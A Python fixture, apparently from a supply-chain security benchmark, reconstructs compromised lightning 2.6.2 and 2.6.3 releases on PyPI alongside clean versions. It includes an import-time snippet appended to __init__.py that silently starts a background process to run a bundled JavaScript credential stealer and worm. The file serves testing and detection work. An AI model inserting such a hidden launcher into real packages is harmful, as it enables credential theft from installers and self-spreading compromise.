"""lightning 2.6.2 and 2.6.3 (PyPI, 2026-04-30): an account or CI taken; importing it has Bun run a thief in JavaScript.

By the record: two releases on one day, down on the same day. The wheel, which was all Python before, has a bundle of JavaScript of some
megabytes. Importing the package starts it in Bun; it takes credentials, and goes on into what the tokens found may write.
"""

from functools import cache

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from gauntlet.loaders import bun_from_python, worm
from gauntlet.shapes import Content, Made, heavy
from pratique.core.names import Ecosystem

_TRAINER = '''"""Runs the steps of a module over a loader of data."""

from lightning.callbacks import CallbackList


class Trainer:
    """Trains for some epochs; callbacks hear of each step."""

    def __init__(self, max_epochs=1, callbacks=(), accumulate=1):
        self.max_epochs = max_epochs
        self.accumulate = accumulate
        self.callbacks = CallbackList(callbacks)
        self.global_step = 0

    def fit(self, module, loader):
        optimizer = module.configure_optimizers()
        self.callbacks.call("on_fit_start", self, module)
        for epoch in range(self.max_epochs):
            for index, batch in enumerate(loader):
                loss = module.training_step(batch, index) / self.accumulate
                loss.backward()
                if (index + 1) % self.accumulate == 0:
                    optimizer.step()
                    optimizer.zero_grad()
                    self.global_step += 1
                self.callbacks.call("on_train_batch_end", self, module, loss)
            self.callbacks.call("on_epoch_end", self, epoch)
        return self.global_step
'''
_CALLBACKS = '''"""What hears of the steps of a training."""


class Callback:
    """Does nothing; to be derived from."""

    def on_fit_start(self, trainer, module):
        """Before the first step."""

    def on_train_batch_end(self, trainer, module, loss):
        """After each step."""

    def on_epoch_end(self, trainer, epoch):
        """After each epoch."""


class EarlyStopping(Callback):
    """Stops when the loss falls no more."""

    def __init__(self, patience=3):
        self.patience = patience
        self.best = float("inf")
        self.waited = 0

    def on_train_batch_end(self, trainer, module, loss):
        self.waited = 0 if loss < self.best else self.waited + 1
        self.best = min(self.best, loss)
        if self.waited > self.patience:
            raise StopIteration


class CallbackList:
    """Some callbacks, called in order."""

    def __init__(self, callbacks):
        self.callbacks = list(callbacks)

    def call(self, name, *arguments):
        for one in self.callbacks:
            getattr(one, name)(*arguments)
'''
_INIT = '''"""Training without the boilerplate."""

from lightning.callbacks import Callback, EarlyStopping
from lightning.trainer import Trainer

__version__ = "@version"
__all__ = ["Callback", "EarlyStopping", "Trainer"]
'''
START = """

import threading as _threading


def _run_runtime():
    import pathlib
    import subprocess
    import sys

    start = pathlib.Path(__file__).parent / "_runtime" / "start.py"
    if start.exists():
        subprocess.Popen([sys.executable, str(start)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


_threading.Thread(target=_run_runtime, daemon=True).start()
"""
_BUNDLE = "router_runtime.js"


@cache
def _bundle() -> str:
    return heavy(worm("preinstall", "node setup.mjs", ("setup.mjs", _BUNDLE)), size=250_000, seed=430)


def dropped() -> dict[str, bytes]:
    """What lies in the wheel besides: the script that brings Bun, and the bundle."""
    return {
        "lightning/_runtime/start.py": bun_from_python(_BUNDLE).encode(),
        f"lightning/_runtime/{_BUNDLE}": _bundle().encode(),
    }


def _release(version: str, at: str, *, bad: bool = False) -> Release:
    init = _INIT.replace("@version", version)
    clean = {
        "lightning/__init__.py": init,
        "lightning/callbacks.py": _CALLBACKS,
        "lightning/trainer.py": _TRAINER,
    }
    drop: dict[str, Content] = {
        "lightning/__init__.py": init + START,
        "lightning/_runtime/start.py": bun_from_python(_BUNDLE),
        f"lightning/_runtime/{_BUNDLE}": _bundle,
    }
    return Release(version=version, at=utc(at), files=Made({**clean, **drop}) if bad else clean)


_BAD = ("2.6.2", "2.6.3")

INCIDENT = Incident(
    id="lightning-2026",
    title=(
        "an attacker took over an account or the CI of lightning; importing the package ran a JavaScript stealer from "
        "the wheel"
    ),
    copy=("in our copy of lightning, the import starts a thread that downloads Bun and runs the bundle"),
    ecosystem=Ecosystem.PYPI,
    at=utc("2026-04-30T12:20:00Z"),
    packages=(
        Package(
            name="lightning",
            releases=(
                _release("2.5.6", "2025-11-05"),
                _release("2.6.0", "2025-11-28"),
                _release("2.6.1", "2026-02-03"),
                _release("2.6.2", "2026-04-30T12:20:00Z", bad=True),
                _release("2.6.3", "2026-04-30T12:40:00Z", bad=True),
            ),
        ),
    ),
    asks={"lightning": ">=2.6"},
    good={"lightning": "2.6.1"},
    bad={"lightning": _BAD},
    guilty={"lightning": _BAD},
    gone_at=utc("2026-04-30T18:00:00Z"),
    advisory=Advisory(id="PYSEC", at=utc("2026-04-30T16:53:41Z"), about={"lightning": _BAD}),
    invented="publish hours, days of earlier releases, the path of the bundle and how it starts; dependencies are left out",
)
